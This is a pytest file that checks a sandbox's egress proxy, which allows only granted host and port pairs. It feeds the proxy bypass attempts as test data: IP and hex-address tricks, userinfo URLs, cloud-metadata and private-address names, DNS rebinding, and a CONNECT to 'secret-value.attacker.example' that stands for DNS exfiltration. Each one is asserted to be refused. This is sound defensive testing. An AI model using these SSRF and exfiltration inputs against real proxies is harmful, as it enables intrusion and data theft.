"""The way out that somebody granted: to one host, for one service, and nowhere else."""

from __future__ import annotations

import json
import os
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from ipaddress import IPv4Address
from pathlib import Path

import docker
import pytest

from sandboxctl.engine.docker import DockerEngine
from sandboxctl.errors import PolicyError
from sandboxctl.lifecycle.went_out import went_out
from sandboxctl.sandbox import addresses, names
from tests import cis, conftest, dens, pipeline, prototypes
from tests.engines.outside import HERE, THERE, Outside, outside

pytestmark = [
    pytest.mark.engine,
    pytest.mark.skipif(os.getuid() != 0, reason="a world outside takes a network namespace: root"),
]

SANDBOX = "goes-out"
NAMES: dict[str, list[str] | list[list[str]]] = {
    "api.test.example": [THERE],
    "other.test.example": [THERE],
    "plain.test.example": [THERE],
    "den.test.example": ["10.0.0.1"],
    "meta.test.example": ["169.254.169.254"],
    "here.test.example": ["127.0.0.1"],
    "both.test.example": [THERE, "192.168.0.1"],
    "turns.test.example": [[THERE], ["10.0.0.1"]],
}
GRANTED = [name for name in NAMES if name not in ("other.test.example", "plain.test.example")]

ASK = """
import json, socket, sys
def ask(request):
    try:
        with socket.create_connection(("egress", 3128), timeout=20) as there:
            there.sendall(request.encode())
            first = there.recv(4096)
            status = int(first.split()[1])
            if status != 200:
                return [status, ""]
            if request.startswith("CONNECT"):
                there.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            while part := there.recv(4096):
                first += part
            return [status, first.decode().rsplit("\\r\\n", 1)[-1]]
    except OSError as error:
        return [0, str(error)]
print(json.dumps([ask(one) for one in json.loads(sys.argv[1])]))
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    with outside(tmp_path_factory.mktemp("outside"), NAMES) as found:
        yield found


@pytest.fixture(scope="module")
def engine(world: Outside, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DockerEngine]:
    """A den whose proxies ask the resolver of the world outside, and a sandbox in it."""
    asked = {"egress": {"resolver": world.resolver}}
    with dens.or_without_daemon(ci="CI" in os.environ):
        engine, api = dens.opened(asked)
    document = prototypes.notebook()
    document["exceptions"] = [
        *(_asked("web", f"egress:{name}") for name in GRANTED),
        _asked("web", "egress:plain.test.example:80"),
    ]
    folder = prototypes.written(tmp_path_factory.mktemp("goes-out"), document)
    assert "nobody has granted it" in refused(engine, folder)
    pipeline.approve(engine, folder, SANDBOX)
    pipeline.up(engine, folder, SANDBOX)
    yield engine
    dens.closed(engine, api)


def refused(engine: DockerEngine, folder: Path) -> str:
    with pytest.raises(PolicyError) as caught:
        pipeline.try_up(engine, folder, SANDBOX)
    return str(caught.value)


def _asked(service: str, grant: str) -> dict[str, str]:
    return {"service": service, "grant": grant, "reason": "It asks there what it cannot know."}


def ask(engine: DockerEngine, service: str, *requests: str) -> list[tuple[int, str]]:
    """What the proxy answers to a service: its status, and the page where there is one."""
    answer = engine.run(SANDBOX, service, ["python3", "-c", ASK, json.dumps(requests)])
    assert answer.status == 0, answer.output.decode()
    return [(status, body) for status, body in json.loads(answer.output)]


def both_ask(engine: DockerEngine) -> None:
    """One service that may go there, and one that may not."""
    for service in ("web", "book"):
        ask(engine, service, tunnel("api.test.example"))


def tunnel(host: str, port: int = 443) -> str:
    return f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"


def page(url: str) -> str:
    return f"GET {url} HTTP/1.1\r\nHost: any\r\nConnection: close\r\n\r\n"


def test_a_granted_host_is_reached_and_the_host_sees_it(
    engine: DockerEngine, world: Outside
) -> None:
    there, plain = ask(
        engine, "web", tunnel("api.test.example"), page("http://plain.test.example/x")
    )
    assert there == (200, "outside")
    assert plain == (200, "outside")
    assert "80 GET /x HTTP/1.1" in world.seen


@pytest.mark.parametrize(
    "request_",
    [
        tunnel("other.test.example"),
        tunnel("api.test.example", 8443),
        tunnel("api.test.example", 80),
        tunnel("plain.test.example", 80),
        tunnel("sub.api.test.example"),
        tunnel("api.test.example.evil.example"),
        tunnel("{there}"),
        tunnel("[::ffff:{there}]"),
        tunnel("{number}"),
        page("http://api.test.example/"),
        page("http://{there}/"),
        page("https://api.test.example/"),
        page("ftp://plain.test.example/"),
        page("http://plain.test.example:8443/"),
        page("http://plain.test.example@other.test.example/"),
        page("cache_object://egress/info"),
    ],
)
def test_everything_else_is_refused(engine: DockerEngine, world: Outside, request_: str) -> None:
    before = [line for line in world.seen if not line.startswith("asked")]
    told = request_.format(there=THERE, number=hex(int(IPv4Address(THERE))))
    ((status, _),) = ask(engine, "web", told)
    assert 400 <= status < 600
    assert [line for line in world.seen if not line.startswith("asked")] == before


@pytest.mark.parametrize("name", ["den", "meta", "here", "both"])
def test_a_granted_name_that_leads_inside_is_refused(engine: DockerEngine, name: str) -> None:
    assert ask(engine, "web", tunnel(f"{name}.test.example"))[0][0] == 403


def test_a_name_that_changes_its_mind_never_leads_inside(
    engine: DockerEngine, api: docker.APIClient
) -> None:
    """TTL 0, and a private address the second time: what was checked is what is connected to."""
    first, *later = ask(engine, "web", *[tunnel("turns.test.example")] * 5)
    assert first == (200, "outside")
    assert set(later) <= {(200, "outside"), (403, "")}
    log = api.logs(names.container(engine.den.name, SANDBOX, 1, names.EGRESS)).decode()
    assert "10.0.0.1" not in log


def test_names_that_nobody_granted_are_not_even_asked_for(
    engine: DockerEngine, world: Outside
) -> None:
    ask(engine, "web", tunnel("secret-value.attacker.example"))
    assert not any("attacker" in line for line in world.seen)


def test_a_service_that_did_not_ask_is_refused_and_the_proxy_is_its_only_neighbour(
    engine: DockerEngine,
) -> None:
    assert ask(engine, "book", tunnel("api.test.example"))[0][0] == 403
    direct = f"import socket; socket.create_connection(('{THERE}', 443), timeout=3)"
    assert engine.run(SANDBOX, "web", ["python3", "-c", direct]).status != 0
    nearby = f"import socket; socket.create_connection(('{HERE}', 53), timeout=3)"
    assert engine.run(SANDBOX, "web", ["python3", "-c", nearby]).status != 0


def test_the_proxy_listens_inside_only_and_the_network_goes_with_the_den(
    engine: DockerEngine, api: docker.APIClient
) -> None:
    seen = api.inspect_container(names.container(engine.den.name, SANDBOX, 1, names.EGRESS))
    networks = seen["NetworkSettings"]["Networks"]
    assert set(networks) == {f"{engine.den.name}-{SANDBOX}-1", f"{engine.den.name}-egress"}
    asked = api.exec_create(seen["Id"], ["cat", "/proc/net/tcp"])
    listening = api.exec_start(asked["Id"]).decode()
    rows = [line.split()[1:4] for line in listening.splitlines()[1:]]
    places = {local.partition(":")[0] for local, _, state in rows if state == "0A"}
    inner = networks[f"{engine.den.name}-{SANDBOX}-1"]["IPAddress"]
    reversed_ = "".join(f"{int(part):02X}" for part in reversed(inner.split(".")))
    assert places <= {reversed_, "0B00007F"}  # and the engine's own resolver, 127.0.0.11
    assert reversed_ in places


def test_the_proxy_is_as_confined_as_any_service(
    engine: DockerEngine, api: docker.APIClient
) -> None:
    seen = api.inspect_container(names.container(engine.den.name, SANDBOX, 1, names.EGRESS))
    assert cis.failed(seen, api.info()) == []


def test_what_went_out_is_told(engine: DockerEngine) -> None:
    both_ask(engine)
    told = {(one.service, one.to): one for one in went_out(engine, SANDBOX)}
    granted = told["web", "api.test.example:443"]
    assert granted.times >= 1
    assert granted.bytes > 0
    assert told["book", "api.test.example:443"].refused >= 1


def test_the_proxy_s_log_has_requests_of_services_and_next_to_nothing_else(
    engine: DockerEngine,
) -> None:
    both_ask(engine)
    lines = [line for _, line in engine.logs(SANDBOX, names.EGRESS, tail=1000, follow=False)]
    live = engine.observe(SANDBOX).live
    assert live
    assert live.subnet
    asked = [line for line in lines if line.startswith("den-egress ")]
    place = addresses.services(live.subnet, live.services)["web"]
    entry = rf"den-egress \d{{4}}-\d\d-\d\dT\d\d:\d\d:\d\dZ {place} CONNECT \S+:443 200 \d+ {THERE}"
    assert any(re.fullmatch(entry, line.strip()) for line in asked)
    assert str(addresses.gateway(live.subnet)) not in {line.split()[2] for line in asked}
    assert len(lines) - len(asked) <= 3  # Squid's name, version, and that there is no IPv6


def test_a_reset_writes_down_what_went_out_before(engine: DockerEngine, tmp_path: Path) -> None:
    """The last of the file: it puts another generation in the place of the one that was asked."""
    conftest.write_settings(tmp_path, engine.den)
    own = {"XDG_CONFIG_HOME": str(tmp_path), "XDG_STATE_HOME": str(tmp_path)}
    cli = conftest.Cli({**os.environ, **own, "SANDBOXCTL_DEN": engine.den.name})
    both_ask(engine)
    assert "web to api.test.example:443" in cli("status", SANDBOX).stdout
    cli("reset", SANDBOX)
    with closing(sqlite3.connect(tmp_path / "sandboxctl" / "ledger.sqlite3")) as ledger:
        rows = ledger.execute("SELECT detail FROM events WHERE verb = 'went out'").fetchall()
    places = json.loads(rows[0][0])["places"]
    assert {"web", "book"} == {place["service"] for place in places}
    assert json.loads(cli("status", SANDBOX, "--json").stdout)["went_out"] == []
